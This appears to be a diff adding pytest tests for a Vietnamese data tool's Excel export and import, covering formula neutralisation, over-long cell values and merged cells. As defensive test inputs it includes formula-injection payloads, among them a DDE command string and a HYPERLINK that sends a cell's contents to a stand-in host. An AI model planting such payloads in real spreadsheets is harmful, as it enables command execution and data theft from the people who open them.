@@ -248,3 +248,99 @@ def test_cli_new_year(tmp_path, data_copy):
     assert load_year(2025, data_copy).indicators["actual"].isna().all()
     result = run_cli("new-year", "2025", "--data", str(data_copy))
     assert result.returncode == 2 and "--force" in result.stderr
+
+
+# -- hostile text: data is never a formula, never cut -----------------------------------------
+
+LIVE = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
+        "+1+2", "-3+4", "@SUM(A1:A9)", "=1+1"]
+
+
+def _poison(data: Path) -> None:
+    """Put formula-looking text in the unit list, data sheets and the meta sheet."""
+    import csv
+    import io
+
+    path = data / "2024" / "indicators.csv"
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    h = rows[0]
+    for i, text in enumerate(LIVE, start=1):
+        rows[i][h.index("unit")] = text
+        rows[i][h.index("note")] = text
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\n").writerows(rows)
+    path.write_text(buf.getvalue(), encoding="utf-8")
+    set_notes(data, '=HYPERLINK("http://x")')
+
+
+def set_notes(data: Path, notes: str) -> None:
+    import yaml
+
+    from tongket_lib.dataset.store import write_meta
+
+    path = data / "2024" / "meta.yaml"
+    meta = yaml.safe_load(path.read_text(encoding="utf-8"))
+    write_meta({**meta, "notes": notes}, path)
+
+
+def test_export_writes_no_formula_in_any_sheet_and_reads_back_the_same_text(tmp_path, data_copy):
+    import zipfile
+
+    _poison(data_copy)
+    before = load_year(2024, data_copy)
+    book = export_excel(2024, data_copy, tmp_path / "x.xlsx")
+    with zipfile.ZipFile(book) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert len(sheets) >= 5
+        for name in sheets:
+            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    wb = openpyxl.load_workbook(book)
+    seen = 0
+    for sheet in wb.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+                    where = (sheet.title, cell.coordinate)
+                    assert cell.data_type == "s" and cell.quotePrefix, where
+                    seen += 1
+    assert seen >= 2 * len(LIVE) + 1  # data sheet, list sheet ("Danh mục") and meta sheet
+    after = load_year(2024, import_excel(book, 2024, tmp_path / "back").folder.parent)
+    pd.testing.assert_frame_equal(after.indicators, before.indicators)
+    assert after.meta["notes"] == before.meta["notes"] == '=HYPERLINK("http://x")'
+
+
+def test_a_value_longer_than_an_excel_cell_is_refused_not_cut(tmp_path, data_copy):
+    set_notes(data_copy, "dài " * 9000)
+    with pytest.raises(DataError) as info:
+        export_excel(2024, data_copy, tmp_path / "x.xlsx")
+    assert "meta.yaml" in str(info.value) and "32.767" in str(info.value)
+    assert not (tmp_path / "x.xlsx").exists()
+
+
+def _merge(book: Path, out: Path, ref: str, sheet: str = "Chỉ tiêu") -> Path:
+    wb = openpyxl.load_workbook(book)
+    ws = wb[sheet]
+    ws.merge_cells(ref)
+    wb.save(out)
+    return out
+
+
+def test_merged_cells_down_a_column_import_as_excel_shows_them(workbook, tmp_path):
+    wb = openpyxl.load_workbook(workbook)
+    ws = wb["Chỉ tiêu"]
+    col = column(ws, "Tên mục")
+    first = ws.cell(2, col).value
+    assert ws.cell(3, col).value == first  # rows 2 and 3 share their section title
+    letter = openpyxl.utils.get_column_letter(col)
+    merged = _merge(workbook, tmp_path / "gop.xlsx", f"{letter}2:{letter}3")
+    assert openpyxl.load_workbook(merged)["Chỉ tiêu"].cell(3, col).value is None
+    result = import_excel(merged, 2024, tmp_path / "moi")
+    assert load_year(2024, result.folder.parent).indicators.loc[3, "section_title"] == first
+
+
+def test_merged_cells_across_columns_are_reported(workbook, tmp_path):
+    merged = _merge(workbook, tmp_path / "gop.xlsx", "D4:E4")  # a name over its target
+    with pytest.raises(DataError) as info:
+        import_excel(merged, 2024, tmp_path / "moi")
+    assert "D4:E4" in str(info.value) and "gộp" in str(info.value)
+    assert not (tmp_path / "moi").exists()
